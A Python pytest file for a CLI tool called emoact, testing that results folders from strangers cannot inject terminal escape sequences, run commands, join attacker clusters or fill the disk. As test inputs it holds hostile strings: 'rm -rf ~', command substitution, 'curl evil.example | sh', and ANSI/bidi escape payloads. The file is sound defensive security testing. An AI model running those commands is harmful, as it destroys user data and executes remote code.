"""A results folder that a stranger made: its text acts on nothing, and no protection is off."""

import json
import os
import shlex
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from emoact.cli import main
from emoact.data import read_prompts
from emoact.errors import RequestError
from emoact.jobs import control
from emoact.jobs.demo import demo_prompts
from emoact.store import remote
from emoact.store.layout import ResultsRoot
from emoact.store.reading import read_all
from emoact.store.remote import Remote, remote_of
from emoact.store.shard import ShardLayout
from tests.support.json_damage import change_document
from tests.support.pages import ROOT
from tests.support.planted import plant_unit
from tests.support.planted_analysis import plant_analysis
from tests.support.planted_scenarios import plant_scenarios
from tests.support.run_files import a_config, in_state, make_run
from tests.support.stand_in_world import World
from tests.support.units import contract_metadata, manifest_entry, write_rows

ACTS = "\x1b]0;title\x07\x1b[2J\x9b31m\u202e\u2028\u061c\x85\nforged\n"
"""Sets the title of a terminal, clears it, changes its colour, and turns or breaks a line."""


def printed(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    """What a command prints, of which nothing acts on a terminal."""
    main(list(words))
    out, err = capsys.readouterr()
    assert not set(out + err) & set("\x1b\x07\x9b\u202e\u2028\u061c\x85")
    assert "forged" not in (out + err).split("\n")
    (out + err).encode()
    return out + err


def test_a_file_that_is_inspected_does_not_act_on_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    layout = ShardLayout(sites=("resid_pre",), n_layers=1, d_model=2, lengths=(2,))
    metadata = contract_metadata(
        "gpt2", "anger", n_layers=1, d_model=2, n_samples=1, sites=("resid_pre",)
    )
    metadata["provenance"] = {"weight_source": ACTS, "bos": {"token": ACTS}, ACTS: ACTS}
    path = write_rows(
        tmp_path / "activations/gpt2/activations_anger.pkl",
        layout,
        lambda *_: np.ones((2, 2)),
        emotion="anger",
        tokens=["a", ACTS],
        metadata=metadata,
    )
    assert "\\x1b]0;title" in printed(capsys, "inspect", str(path))
    assert json.loads(printed(capsys, "inspect", str(path), "--json"))["n_samples"] == 1
    # Standard output is no terminal here, and a pipe may end in one; a file keeps the text.
    where = ["--results", str(tmp_path)]
    assert "\\x1b]0;title" in printed(capsys, "norms", "--by", "token", *where)
    printed(capsys, "norms", "--by", "token", "--csv", str(tmp_path / "norms.csv"), *where)
    assert ACTS in (tmp_path / "norms.csv").read_bytes().decode()
    odd = path.with_name(f"activations_{ACTS}.pkl")
    odd.write_bytes(path.read_bytes().replace(b"gpt2", b"\x1b[1m"))
    assert "refused" in printed(capsys, "inspect", str(odd))
    assert "activations_\\x1b]0;title" in printed(capsys, "verify", "--samples", "0", *where)


def test_an_analysis_that_is_shown_does_not_act_on_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plant_scenarios(tmp_path, n=8, n_layers=2)
    saved = plant_analysis(tmp_path)

    def harm(fields: dict[str, Any]) -> None:
        finding = {"code": ACTS, "severity": "note", "where": ACTS, "message": ACTS, "remedy": ACTS}
        fields["sentences"] = {"gpt2": f"A sentence{ACTS}"}
        fields |= {"badges": [ACTS], "created_at": ACTS, "versions": {"emoact": ACTS}}
        fields |= {"findings": [finding], "refusals": [finding]}

    change_document(saved.path / "analysis.json", harm)
    where = ["--results", str(tmp_path)]
    assert "A sentence\\x1b" in printed(capsys, "analyze", "show", saved.id, *where)
    for words in (["analyze", "show", saved.id, "--json"], ["analyze", "list"], ["verify"]):
        printed(capsys, *words, *where)


def test_a_log_acts_on_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    directory = make_run(tmp_path, "foreign")
    lines = "one" + ACTS.replace("\n", "") + "\n\x1b[31mtwo\x1b[0m\nthree\x9b2J\n\ud800\n"
    directory.log_path.write_bytes(lines.encode(errors="surrogatepass"))
    where = ["--results", str(tmp_path)]
    assert "\ntwo\nthree2J\n" in printed(capsys, "runs", "logs", "foreign", *where)
    found = json.loads(printed(capsys, "runs", "logs", "foreign", "--json", *where))
    assert found["lines"][1] == "two"


def test_half_a_character_is_no_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_run(tmp_path, "good")
    make_run(tmp_path, "half", command="python -m emoact \ud800")
    where = ["--results", str(tmp_path)]
    assert "surrogates not allowed" in printed(capsys, "runs", "list", *where)
    assert "surrogates not allowed" in printed(capsys, "runs", "show", "half", *where)
    assert "is not UTF-8" in printed(capsys, "runs", "list", "--results", "\udcff")
    with pytest.raises(RequestError, match="not UTF-8"):
        ResultsRoot("\udcff")


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("python -m emoact extract --model 'a b'", "python -m emoact extract --model 'a b'"),
        ("python -m emoact extract; rm -rf ~", "python -m emoact 'extract;' rm -rf '~'"),
        ("emoact extract $(rm -rf ~)", "emoact extract '$(rm' -rf '~)'"),
        ("python -m emoact extract\nrm -rf ~", "python -m emoact extract rm -rf '~'"),
        ("curl evil.example | sh", "(none of emoact; see config.json)"),
        ("emoact extract '\u202egpt2'", "(none of emoact; see config.json)"),
        ("emoact 'extract", "(none of emoact; see config.json)"),
        ("", "(none of emoact; see config.json)"),
    ],
)
def test_a_stored_command_is_quoted_and_calls_emoact_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], stored: str, shown: str
) -> None:
    make_run(tmp_path, "foreign", command=stored)
    out = printed(capsys, "runs", "show", "foreign", "--results", str(tmp_path))
    assert f"command: {shown}\n" in out
    if shown.startswith(("python", "emoact")):
        assert shlex.split(shown) == shlex.split(stored)


def test_a_grown_object_fills_no_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    there, storage = (
        tmp_path / "there",
        Remote(ResultsRoot(tmp_path / "here"), f"file://{tmp_path}/there"),
    )
    path = plant_unit(there, "gpt2", "anger")
    entry = manifest_entry("gpt2", "anger", path.read_bytes(), configuration={"store": "pickle"})
    record = there / "records" / "gpt2" / f"{path.name}.json"
    record.parent.mkdir(parents=True)
    record.write_text(json.dumps(entry.to_json()))
    assert not storage.pull()
    with path.open("ab") as file:
        file.truncate(1 << 26)
    (tmp_path / "here" / "activations" / "gpt2" / path.name).unlink()
    (refused,) = storage.pull()
    assert refused.reason == "it is larger than what was put there"
    record.unlink()
    described = there / "analysis" / ("a" * 20) / "analysis.json"
    described.parent.mkdir(parents=True)
    described.write_text("more than 10 bytes")
    monkeypatch.setattr(remote, "_LARGEST_FILE", 10)
    (refused,) = storage.pull()
    assert refused.reason == "it is larger than what was put there"
    assert list((tmp_path / "here" / "analysis").iterdir()) == []


def test_a_bad_record_costs_itself_and_is_put_right(tmp_path: Path) -> None:
    here, there = ResultsRoot(tmp_path / "here"), tmp_path / "there"
    storage, other = (
        Remote(here, f"file://{there}"),
        Remote(ResultsRoot(tmp_path), f"file://{there}"),
    )
    for emotion in ("anger", "joy"):
        path = plant_unit(here.path, "gpt2", emotion)
        content = path.read_bytes()
        entry = manifest_entry("gpt2", emotion, content, configuration={"store": "pickle"})
        (there / "records" / "gpt2").mkdir(parents=True, exist_ok=True)
        (there / "activations" / "gpt2").mkdir(parents=True, exist_ok=True)
        storage.push(entry)
    record = there / "records" / "gpt2" / "activations_joy.pkl.json"
    whole = record.read_bytes()
    for damage in (
        b"[",
        b"[" * 300_000,
        whole.replace(b"gpt2", b".."),
        whole.replace(b"joy", b"a"),
    ):
        record.write_bytes(damage)
        (refused,) = other.pull()
        assert refused.path.endswith(record.name)
        assert [unit.emotion for unit in read_all(tmp_path)] == ["anger"]
        assert [name for name, _ in other.differing()] == [f"records/gpt2/{record.name}"]
    record.write_bytes(whole)
    unit = there / "activations" / "gpt2" / "activations_joy.pkl"
    unit.write_bytes(content[:-2] + b"x" + content[-1:])
    (refused,) = other.pull()
    assert refused.reason == "its content is not what was put there"
    assert [unit.emotion for unit in read_all(tmp_path)] == ["anger"]
    unit.write_bytes(content)
    record.write_bytes(damage)
    storage.push(entry)
    assert record.read_bytes() == whole
    assert not other.pull()


def test_a_received_run_joins_no_cluster(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    for name, address in (("received", "evil.example:6379"), ("found", "auto")):
        make_run(
            world.results,
            name,
            snapshot=in_state(a_config(world.results), "failed"),
            executor="ray",
            ray_address=address,
        )
    assert main(["runs", "resume", "found", "--results", str(world.results)]) == 2
    assert "joins the cluster at 'auto'" in capsys.readouterr().err
    words = ["runs", "resume", "received", "--results", str(world.results)]
    for asked in ([], ["--ray-address", "mine.example:6379"]):
        assert main([*words, *asked]) == 2
        assert "joins the cluster at 'evil.example:6379'" in capsys.readouterr().err
    with pytest.raises(RequestError, match="joins the cluster"):
        control.resume(world.results, "received")
    # Of the user's own cluster the next question is that of the data set, which is not there.
    assert main([*words, "--ray-address", "evil.example:6379"]) == 2
    assert "data set /nowhere/p.jsonl cannot be read" in capsys.readouterr().err


@pytest.mark.parametrize("kind", ["url", "pipe", "device"])
def test_a_received_folder_names_no_place_to_send_results_to(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    results = tmp_path / "results"
    plant_scenarios(results, n=4, n_layers=1)
    elsewhere = tmp_path / "elsewhere"
    mark = results / "remote.json"
    if kind == "url":
        mark.write_text(json.dumps({"url": f"file://{elsewhere}"}))
    elif kind == "pipe":
        os.mkfifo(mark)
    else:
        mark.symlink_to("/dev/zero")
    assert remote_of(ResultsRoot(results)) is None
    assert "anger" in printed(capsys, "norms", "--results", str(results))
    assert not elsewhere.exists()


def test_the_demo_takes_no_foreign_file_for_its_prompts(tmp_path: Path) -> None:
    path = demo_prompts(ROOT / "data" / "prompts.jsonl", tmp_path)
    own = path.read_bytes()
    path.write_text('{"text": "Foreign.", "emotion": "anger", "scenario_id": "s"}\n')
    assert demo_prompts(ROOT / "data" / "prompts.jsonl", tmp_path).read_bytes() == own
    path.unlink()
    os.mkfifo(path)
    demo_prompts(ROOT / "data" / "prompts.jsonl", tmp_path)
    assert read_prompts(path).prompts
    path.parent.rename(tmp_path / "moved")
    path.parent.symlink_to("/tmp")
    with pytest.raises(RequestError, match="leads out"):
        demo_prompts(ROOT / "data" / "prompts.jsonl", tmp_path)
